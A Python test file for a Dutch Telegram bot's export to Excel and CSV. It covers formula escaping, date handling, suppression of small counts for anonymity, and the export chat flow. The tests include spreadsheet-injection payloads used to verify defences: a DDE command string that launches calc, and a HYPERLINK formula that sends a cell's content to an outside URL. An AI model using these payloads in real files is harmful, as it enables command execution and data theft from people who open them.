"""The export: what is in the files, what can never be in them, and that nobody waits for it."""

from __future__ import annotations

import asyncio
import csv
import sqlite3
import threading
from collections import Counter
from collections.abc import Iterator
from contextlib import closing
from datetime import date, datetime, timedelta
from io import BytesIO, StringIO
from itertools import combinations
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook  # type: ignore[import-untyped]

from bot.app import places
from bot.made import Made
from bot.office import export, research, sheets
from bot.office.csvfiles import bundle
from bot.office.export import Exporter, StoppedError
from bot.office.periods import Form, Period, Span, span
from bot.office.sheets import Cell, Column, Sheet
from bot.office.small_counts import FEWEST, Count, safe
from bot.office.workbook import workbook
from bot.people import Role
from bot.store.export import Between, snapshot
from conversations import flows
from conversations.text import Verbatim
from tests.dialogue import act, play, until_summary
from tests.fakes import FakeClock
from tests.load import fill
from tests.stage import COACH, COORDINATOR, NEIGHBOUR, RESIDENT, Stage, on_stage

FLOWS = flows(places())
ALL = {"since": None, "until": "2026-03-02"}
HOSTILE = (
    "=1+1",
    "+cmd",
    "@SUM(A1:A9)",
    "-2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.nl?"&A1,"klik")',
    "https://example.nl",
    "mailto:a@example.nl",
    "12",
    "007",
    "1e5",
    "2026-03-02",
    "TRUE",
    "<r><t>rood</t></r>",
    "<r></c><c><f>1+1</f></c></r>",
    "_x0041_",
    'a;b"c\nd',
    "]]>&amp;<b>",
    "😀 \u202eomgekeerd",
)


def wall(time: str) -> datetime:
    """Return what the clock on the wall shows."""
    return datetime.fromisoformat(time)


def lines(typed: str) -> str:
    return typed.replace("\r", "\n")


def one(*cells: Cell) -> Sheet:
    columns = tuple(Column(Verbatim(f"k{n}"), Verbatim("uitleg")) for n in range(len(cells)))
    return Sheet(Verbatim("Blad"), columns, [cells])


def opened(content: bytes) -> Any:
    return load_workbook(BytesIO(content))


def written(*cells: Cell) -> list[Any]:
    return list(opened(workbook([one(*cells)], "nl"))["Blad"][2])


def in_csv(*cells: Cell) -> list[str]:
    with ZipFile(BytesIO(bundle([one(*cells)], "nl"))) as files:
        raw = files.read("blad.csv")
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))[1]


@pytest.mark.parametrize("typed", HOSTILE)
def test_what_people_type_stays_text_in_excel(typed: str) -> None:
    (cell,) = written(typed)
    assert cell.data_type == "s"
    assert cell.hyperlink is None
    # What looks like an escape of Excel's own is escaped; openpyxl leaves it so, Excel does not.
    assert cell.value.replace("_x005F", "").removeprefix(" ") == lines(typed).removeprefix(" ")
    assert cell.quotePrefix == sheets.like_a_formula(typed)


@pytest.mark.parametrize("typed", HOSTILE)
def test_what_people_type_never_begins_as_a_formula_in_csv(typed: str) -> None:
    (cell,) = in_csv(typed)
    assert cell == ("'" if sheets.like_a_formula(typed) else "") + lines(typed)
    assert cell[0] not in "=+-@＝＋－＠\t\r\n"


anything = st.text(
    st.characters() | st.sampled_from("=+-@\t\r\n<r>;\"'\0\x1f\ud800\ufffe"), max_size=12
)


@settings(max_examples=60, deadline=None)
@given(st.lists(anything, min_size=1, max_size=20))
@example([" \r"])
def test_any_text_makes_a_file_that_opens_without_a_formula(typed: list[str]) -> None:
    for cell in written(*typed):
        assert cell.data_type in {"s", "n"}
        assert cell.data_type == "s" or cell.value is None
    for shown in in_csv(*typed, "einde"):
        assert not shown.lstrip(" ").startswith(tuple("=+-@\t\r\n"))


def test_control_characters_go_and_very_long_texts_are_cut() -> None:
    short, long = written("a\x00b\x1fc\ud800d", "é" * 40_000)
    assert short.value == "abcd"
    assert long.value == "é" * 32_767
    assert in_csv("a\x00b\ud800", "é" * 40_000) == ["ab", "é" * 40_000]


def test_numbers_and_dates_are_numbers_and_dates() -> None:
    moment, day = wall("2026-03-29 03:30"), date(2026, 3, 2)
    cells = written(4, 2.5, -2, moment, day, None, "")
    assert [cell.value for cell in cells[:4]] == [4, 2.5, -2, moment]
    assert [cell.data_type for cell in cells[:5]] == ["n", "n", "n", "d", "d"]
    assert cells[3].number_format == "dd-mm-yyyy hh:mm"
    assert cells[4].value.date() == day
    assert [cell.value for cell in cells[5:]] == [None, None]
    row = ["4", "2,5", "-2", "2026-03-29 03:30", "2026-03-02", "", ""]
    assert in_csv(4, 2.5, -2, moment, day, None, "") == row


@pytest.mark.parametrize(("rows", "pages"), [(0, [0]), (2, [2]), (3, [2, 1]), (6, [2, 2, 2])])
def test_too_many_rows_go_on_on_a_next_sheet(rows: int, pages: list[int]) -> None:
    columns = (Column(Verbatim("k"), Verbatim("uitleg"), 9),)
    numbers = Sheet(Verbatim("Blad"), columns, ((n,) for n in range(rows)))
    book = opened(workbook([numbers], "nl", rows_at_most=3))
    assert [page.max_row - 1 for page in book] == pages
    assert [page["A1"].value for page in book] == ["k"] * len(pages)
    found = [cell.value for page in book for (cell,) in page.iter_rows(min_row=2)]
    assert found == list(range(rows))


def between_days(since: str, until: str) -> Span:
    return Span(date.fromisoformat(since) if since else None, date.fromisoformat(until))


@pytest.mark.parametrize(
    ("period", "today", "days"),
    [
        (Period.THIS_YEAR, "2026-03-02", ("2026-01-01", "2026-03-02")),
        (Period.THIS_YEAR, "2026-01-01", ("2026-01-01", "2026-01-01")),
        (Period.LAST_YEAR, "2026-03-02", ("2025-01-01", "2025-12-31")),
        (Period.LAST_12_MONTHS, "2026-03-02", ("2025-04-01", "2026-03-02")),
        (Period.LAST_12_MONTHS, "2026-12-31", ("2026-01-01", "2026-12-31")),
        (Period.LAST_12_MONTHS, "2028-02-29", ("2027-03-01", "2028-02-29")),
        (Period.ALL, "2026-03-02", ("", "2026-03-02")),
    ],
)
def test_the_days_that_a_period_has_on_a_given_day(
    period: Period, today: str, days: tuple[str, str]
) -> None:
    assert span(period, date.fromisoformat(today)) == between_days(*days)


@pytest.fixture
def full(tmp_path: Path) -> Path:
    path = tmp_path / "full.db"
    fill(path, 400, 150)
    return path


def change(path: Path, *statements: str) -> None:
    with closing(sqlite3.connect(path)) as connection, connection:
        for statement in statements:
            connection.execute(statement)


async def made(path: Path, form: Form, **asked: Any) -> Made:
    file = await Exporter(path, FakeClock(), FLOWS).make({"form": form, **ALL, **asked}, "nl")
    assert isinstance(file, Made)
    return file


def rows_of(book: Any, name: str) -> list[dict[str, Any]]:
    header, *rows = book[name].iter_rows(values_only=True)
    assert len(set(header)) == len(header)
    return [dict(zip(header, row, strict=True)) for row in rows]


async def test_the_excel_file_has_a_sheet_of_each_kind(full: Path) -> None:
    file = await made(full, Form.EXCEL)
    assert file.name == "basisbaan-export-alles-2026-03-02.xlsx"
    book = opened(file.content)
    names = ["Voorstellen", "Voorwaarden", "Toetsen", "Statuswijzigingen", "Uitleg"]
    assert book.sheetnames == names
    for page in book:
        assert page.freeze_panes == "A2"
        assert page.auto_filter.ref == page.dimensions
        assert all(cell.font.bold for cell in page[1])
        assert not [cell for row in page.iter_rows() for cell in row if cell.data_type == "f"]
        assert all(8 <= page.column_dimensions[c.column_letter].width <= 95 for c in page[1])
    assert [book[name].max_row - 1 for name in names[:3]] == [400, 2000, 150]
    proposal, check = rows_of(book, "Voorstellen")[0], rows_of(book, "Toetsen")[0]
    assert isinstance(proposal["Ingestuurd"], datetime)
    assert isinstance(proposal["Uren vanaf"], int | None)
    assert proposal["Advies"] in {"Voldoet", "Voldoet niet", "Bespreken"}
    assert check["Coach"] in {1, 2, 3, 4}
    assert check["Code"].startswith("K-")


async def test_moments_are_on_the_clock_on_the_wall_and_days_begin_there(full: Path) -> None:
    """In summer midnight in Groningen is ten in the evening in UTC."""
    change(
        full,
        "UPDATE proposals SET submitted_at = '2025-01-01T12:00:00.000Z'",
        "UPDATE proposals SET submitted_at = '2025-06-30T21:59:59.999Z' WHERE id = 1",
        "UPDATE proposals SET submitted_at = '2025-06-30T22:00:00.000Z' WHERE id = 2",
        "UPDATE proposals SET submitted_at = '2025-07-01T21:59:59.000Z' WHERE id = 3",
        "UPDATE proposals SET submitted_at = '2025-07-01T22:00:00.000Z' WHERE id = 4",
    )
    file = await made(full, Form.EXCEL, since="2025-07-01", until="2025-07-01")
    sent = [row["Ingestuurd"] for row in rows_of(opened(file.content), "Voorstellen")]
    assert sent == [wall("2025-07-01 00:00"), wall("2025-07-01 23:59:59")]


async def test_an_override_stands_beside_the_computed_advice(full: Path) -> None:
    change(
        full,
        "DELETE FROM overrides",
        "UPDATE verdicts SET outcome = 'met' WHERE conversation_id ="
        " (SELECT conversation_id FROM checks WHERE id = 7)",
        "UPDATE verdicts SET outcome = 'not_met' WHERE condition = 'aged_27' AND conversation_id ="
        " (SELECT conversation_id FROM checks WHERE id = 7)",
        "UPDATE checks SET overall = 'not_met', code = 'K-7777' WHERE id = 7",
        "INSERT INTO overrides (check_id, condition, outcome, reason, note, by_id, at)"
        " VALUES (7, 'aged_27', 'met', 'mistake', 'is net jarig', 2001, '2026-01-01T00:00:00.000Z')",
        "UPDATE checks SET deleted_at = saved_at, code = 'K-8888' WHERE id = 8",
    )
    rows = rows_of(opened((await made(full, Form.EXCEL)).content), "Toetsen")
    found = next(row for row in rows if row["Code"] == "K-7777")
    assert (found["Advies"], found["Met aanpassing"]) == ("Voldoet niet", "Voldoet")
    assert found["27 jaar of ouder"] == "Voldoet niet"
    assert found["Aangepast door coach"] == "27 jaar of ouder: Voldoet (Fout in een antwoord)"
    assert "K-8888" not in {row["Code"] for row in rows}
    assert "is net jarig" not in str(rows)


async def test_csv_is_the_same_in_a_zip(full: Path) -> None:
    file = await made(full, Form.CSV)
    assert file.name.endswith(".zip")
    book = opened((await made(full, Form.EXCEL)).content)
    with ZipFile(BytesIO(file.content)) as files:
        for page in book:
            lines = files.read(f"{page.title.lower()}.csv").decode("utf-8-sig")
            rows = list(csv.reader(StringIO(lines, newline=""), delimiter=";"))
            assert len(rows) == page.max_row
            assert rows[0] == [cell.value for cell in page[1]]


@pytest.mark.parametrize("form", Form)
async def test_an_empty_period_gives_a_file_with_headers(full: Path, form: Form) -> None:
    file = await made(full, form, since="2000-01-01", until="2000-12-31")
    if form is Form.CSV:
        with ZipFile(BytesIO(file.content)) as files:
            lines = {n: files.read(n).decode().count("\r\n") for n in files.namelist()}
        assert {n for n, number in lines.items() if number == 1} == lines.keys() - {"uitleg.csv"}
        return
    book = opened(file.content)
    for page in book:
        assert page["A1"].value
        assert page.max_row == 1 or page.title == "Uitleg"


@pytest.mark.parametrize("form", [Form.EXCEL, Form.RESEARCH])
async def test_every_column_is_explained(full: Path, form: Form) -> None:
    book = opened((await made(full, form)).content)
    explained = {
        (sheet, column): said
        for sheet, column, said in book["Uitleg"].iter_rows(min_row=2, values_only=True)
    }
    assert all(len(said) > 10 and "**" not in said for said in explained.values())
    for page in book.worksheets[:-1]:
        for cell in page[1]:
            assert explained[page.title, cell.value], (page.title, cell.value)


counts = st.lists(
    st.builds(
        lambda key, records, people: Count(key, records, min(records, people)),
        st.tuples(st.sampled_from("ab"), st.sampled_from("xyz"), st.sampled_from("pqr")),
        st.integers(1, 12),
        st.integers(1, 12),
    ),
    max_size=14,
    unique_by=lambda count: count.key,
)


@given(counts)
def test_small_counts_can_neither_be_seen_nor_worked_out(found: list[Count]) -> None:
    shown = safe(found)
    assert all(count.records >= FEWEST and count.people >= FEWEST for count in shown)
    for level in range(3):
        for group in {count.key[:level] for count in found}:
            inside = [count for count in found if count.key[:level] == group]
            hidden = [count for count in inside if count not in shown]
            assert (
                not hidden
                or not set(inside) - set(hidden)
                or sum(count.size for count in hidden) >= FEWEST
            )


def test_large_counts_stay() -> None:
    found = [Count((month, what), 5, 5) for month, what in combinations("abcd", 2)]
    assert safe(found) == sorted(found, key=lambda count: count.key)
    assert safe([]) == []


def strings(book: Any) -> Iterator[tuple[str, str]]:
    for page in book:
        for row in page.iter_rows(values_only=True):
            yield from ((page.title, str(cell)) for cell in row if cell is not None)


async def test_research_holds_nothing_that_points_to_a_person(full: Path) -> None:
    with closing(sqlite3.connect(full)) as connection:
        typed = {
            value
            for key, value in connection.execute("SELECT question, value FROM answers")
            if key in {"name", "description", "phone", "mail", "more", "spot"}
        }
        named = {name for (name,) in connection.execute("SELECT reference FROM proposals")}
        named |= {name for (name,) in connection.execute("SELECT code FROM checks")}
        named |= {str(id_) for (id_,) in connection.execute("SELECT id FROM people WHERE id > 0")}
    wijken = {p.name for p in places().places} - set(places().districts)
    book = opened((await made(full, Form.RESEARCH)).content)
    said = list(strings(book))
    cells = {cell for _, cell in said}
    assert not cells & (typed | named | wijken)
    everything = "\n".join(cell for sheet, cell in said if sheet != "Uitleg")
    assert not [secret for secret in (*typed, *named, *wijken) if secret in everything]
    assert not [c for page in book for row in page.iter_rows() for c in row if c.is_date]


async def test_research_counts_by_month_and_district_and_leaves_small_ones_out(full: Path) -> None:
    change(
        full,
        "UPDATE proposals SET district = 'Zuid', overall = 'met', person_id = 100001 + id % 7,"
        " submitted_at = '2026-01-31T23:30:00.000Z'",
        "UPDATE proposals SET district = 'Oost' WHERE id <= 4",
        "UPDATE proposals SET district = 'West', person_id = 100001 WHERE id BETWEEN 5 AND 20",
        "UPDATE proposals SET district = 'Haren' WHERE id BETWEEN 21 AND 40",
    )
    rows = rows_of(opened((await made(full, Form.RESEARCH)).content), "Voorstellen")
    assert {row["Maand"] for row in rows} == {"2026-02"}
    shown = {(row["Gebied"], row["Advies"]): row["Aantal"] for row in rows}
    # Four in Oost; in West all of one person: what is left out counts five together.
    assert shown == {("Zuid", "Voldoet"): 360, ("Haren", "Voldoet"): 20}


async def test_research_in_total_is_what_there_is_but_for_what_is_left_out(full: Path) -> None:
    change(full, "UPDATE proposals SET submitted_at = '2026-01-15T12:00:00.000Z'")
    book = opened((await made(full, Form.RESEARCH)).content)
    by_question = Counter[str]()
    for row in rows_of(book, "Kenmerken"):
        by_question[row["Kenmerk"]] += row["Aantal"]
    assert by_question == dict.fromkeys(by_question, 400)
    assert set(by_question) == {"Status", "Wie", "Uren", "Wanneer", "Begeleiding", "Contact"}
    by_condition = Counter[str]()
    for row in rows_of(book, "Voorwaarden"):
        by_condition[row["Voorwaarde"]] += row["Aantal"]
    # One outcome of few people is left out, with the next smallest, so that none can be computed.
    assert sorted(by_condition.values()) == [360, 400, 400, 400, 400]


@pytest.mark.parametrize(
    ("hours", "of"),
    [
        ("4", "1-4"),
        ("4.5", "5-8"),
        ("2-6", "5-8"),
        ("9-16", "9-16"),
        ("17+", "17+"),
        ("8+", "17+"),
        ("40", "17+"),
        ("geheim", ""),
        ("", ""),
    ],
)
def test_hours_are_counted_by_class(hours: str, of: str) -> None:
    assert research.hours_class(hours) == of


def test_free_text_is_never_counted() -> None:
    chosen = research.chosen(FLOWS["propose_task"])
    assert chosen("who", "resident") == "resident"
    assert chosen("hours", "unsure") == "unsure"
    for key in ("who", "description", "place", "phone", "mail", "more", "name", "unknown"):
        assert chosen(key, "Jan de Vries") == ""


def test_reading_neither_waits_for_the_writer_nor_keeps_it_waiting(full: Path) -> None:
    everything = Between("", "9")
    with closing(sqlite3.connect(full, isolation_level=None, timeout=0)) as writer:
        writer.execute("BEGIN IMMEDIATE")
        with snapshot(full) as found:
            proposals = found.proposals(everything)
            first = next(proposals)
            writer.execute("UPDATE proposals SET reference = 'new ' || id")
            writer.execute("COMMIT")
            assert first.reference.startswith("BB-2")
            assert all(row.reference.startswith("BB-2") for row in proposals)
            assert len(list(found.proposals(everything))) == 400
            with pytest.raises(sqlite3.OperationalError, match="readonly"):
                found._connection.execute("DELETE FROM proposals")


def test_a_file_is_left_half_made_when_the_program_stops() -> None:
    stopping = threading.Event()
    rows = export.until(stopping, range(3))
    assert next(rows) == 0
    stopping.set()
    with pytest.raises(StoppedError):
        next(rows)


async def test_what_telegram_does_not_take_is_said(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "LARGEST", 10)
    async with on_stage(tmp_path) as stage:
        await stage.give(COORDINATOR, Role.COORDINATOR)
        assert await pressed(stage, "/export", "[Bestand maken]") == (
            "Periode: 1 jan 2026 tot en met 2 mrt 2026\n"
            "Het bestand is te groot voor Telegram. Kies een kortere periode."
        )
        assert documents(stage, COORDINATOR) == []


async def test_when_it_cannot_be_made_that_is_said_and_another_can_be_asked_for(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_: object) -> bytes:
        raise ZeroDivisionError

    monkeypatch.setattr(export, "workbook", broken)
    async with on_stage(tmp_path) as stage:
        await stage.give(COORDINATOR, Role.COORDINATOR)
        said = await pressed(stage, "/export", "[Bestand maken]")
        assert said == "Het bestand is niet gelukt. Probeer het later nog eens."
        monkeypatch.undo()
        await pressed(stage, "[Nog een export]", "[Bestand maken]")
        assert len(documents(stage, COORDINATOR)) == 1


async def pressed(stage: Stage, *lines: str) -> str:
    for line in lines:
        act(stage, COORDINATOR, line)
        await stage.settle()
    return stage.last(COORDINATOR).text


def documents(stage: Stage, user: int) -> list[tuple[str, bytes]]:
    found = [
        m.carries["document"] for m in stage.world.chat(user).messages if "document" in m.carries
    ]
    files = [stage.world.files.get(document["file_id"]) for document in found]
    return [(file.name, file.content) for file in files]


async def test_choosing_and_getting_a_file(tmp_path: Path) -> None:
    async with on_stage(tmp_path) as stage:
        await stage.give(COORDINATOR, Role.COORDINATOR)
        await play(
            stage,
            COORDINATOR,
            """
            you: /export
            + **Exporteren** / Periode: **1 jan 2026** tot en met **2 mrt 2026** / Bestand: **Excel**, met alle voorstellen, voorwaarden, toetsen en statuswijzigingen. / In dit bestand staan persoonsgegevens. Deel het alleen met wie het nodig heeft. [✅ Dit jaar] [Vorig jaar] [Laatste 12 maanden] [Alles] [✅ Excel] [CSV] [Alleen aantallen] [Bestand maken]
            you: [Alleen aantallen]
            ✓
            ~ **Exporteren** / Periode: **1 jan 2026** tot en met **2 mrt 2026** / Bestand: **alleen aantallen**, een Excel voor onderzoek. Niets wijst naar een persoon. [✅ Dit jaar] [Vorig jaar] [Laatste 12 maanden] [Alles] [Excel] [CSV] [✅ Alleen aantallen] [Bestand maken]
            you: [Alles]
            ✓
            ~ **Exporteren** / Periode: **alles** tot en met 2 mrt 2026 / Bestand: **alleen aantallen**, een Excel voor onderzoek. Niets wijst naar een persoon. [Dit jaar] [Vorig jaar] [Laatste 12 maanden] [✅ Alles] [Excel] [CSV] [✅ Alleen aantallen] [Bestand maken]
            """,
        )
        for line in ("[CSV]", "[Bestand maken]"):
            act(stage, COORDINATOR, line)
            await stage.settle()
        ((name, content),) = documents(stage, COORDINATOR)
        assert name == "basisbaan-export-alles-2026-03-02.zip"
        assert ZipFile(BytesIO(content)).testzip() is None
        assert stage.world.called("sendChatAction")
        audit = await stage.query(
            "SELECT actor_id, subject, detail FROM audit WHERE action = 'exported'"
        )
        assert audit == [(COORDINATOR, "export csv", "- 2026-03-02")]


async def test_what_was_typed_in_the_chat_arrives_as_it_was(tmp_path: Path) -> None:
    async with on_stage(tmp_path) as stage:
        await stage.give(COORDINATOR, Role.COORDINATOR)
        await stage.give(COACH, Role.COACH)
        typed = '=HYPERLINK("http://x.nl","blad opruimen op het plein")'
        await until_summary(stage, RESIDENT, description=typed, hours="2,5")
        for user, line in (
            (RESIDENT, "[Versturen]"),
            (COACH, "/check"),
            (COACH, "[Alles voldoet]"),
            (COACH, "[Opslaan]"),
            (COORDINATOR, "/export"),
            (COORDINATOR, "[Bestand maken]"),
        ):
            act(stage, user, line)
            await stage.settle()
        ((_, content),) = documents(stage, COORDINATOR)
        book = opened(content)
        (proposal,), (check,) = rows_of(book, "Voorstellen"), rows_of(book, "Toetsen")
        assert proposal["Taak"] == typed
        assert (proposal["Gebied"], proposal["Waar"]) == ("West", "Selwerd")
        assert (proposal["Uren vanaf"], proposal["Uren tot en met"]) == (2.5, 2.5)
        assert proposal["Status"] == "Nieuw"
        assert proposal["Ingestuurd"] == wall("2026-03-02 10:00")
        assert (check["Coach"], check["Advies"], check["Nieuwste"]) == (1, "Voldoet", "Ja")
        assert str(COACH) not in str([*strings(book)])


async def test_others_are_answered_while_a_file_is_made(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    begun, go_on = threading.Event(), threading.Event()

    def slow(*asked: Any) -> bytes:
        begun.set()
        assert go_on.wait(20)
        return workbook(*asked)

    monkeypatch.setattr(export, "workbook", slow)
    async with on_stage(tmp_path) as stage:
        await stage.give(COORDINATOR, Role.COORDINATOR)
        act(stage, COORDINATOR, "/export")
        await stage.settle()
        try:
            for _ in range(2):  # impatience makes no second file
                act(stage, COORDINATOR, "[Bestand maken]")
            await asyncio.to_thread(begun.wait, 20)
            for user, line in ((NEIGHBOUR, "/privacy"), (COORDINATOR, "/privacy")):
                act(stage, user, line)
                while not any(
                    m.text.startswith("Privacy") for m in stage.world.chat(user).messages
                ):
                    await asyncio.sleep(0.001)
            assert not documents(stage, COORDINATOR)
        finally:
            go_on.set()
        await stage.settle()
        assert len(documents(stage, COORDINATOR)) == 1


async def test_a_file_that_was_being_made_at_a_stop_is_made_after_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    begun = threading.Event()

    def forever() -> Iterator[tuple[Cell, ...]]:
        while True:
            begun.set()
            yield (1,)

    def endless(*_: object) -> list[Sheet]:
        return [Sheet(Verbatim("Blad"), (Column(Verbatim("k"), Verbatim("uitleg")),), forever())]

    async with on_stage(tmp_path) as stage:
        await stage.give(COORDINATOR, Role.COORDINATOR)
        with monkeypatch.context() as patched:
            patched.setattr(Exporter, "_records", endless)
            patched.setattr("bot.running.STOP_WITHIN", 0.01)
            act(stage, COORDINATOR, "/export")
            await stage.settle()
            act(stage, COORDINATOR, "[Bestand maken]")
            await asyncio.to_thread(begun.wait, 20)
            await stage.stop()
        stage.clock.advance(timedelta(days=1))
        await stage.start()
        await stage.settle()
        ((name, _),) = documents(stage, COORDINATOR)
        assert name == "basisbaan-export-2026-01-01-2026-03-02.xlsx"
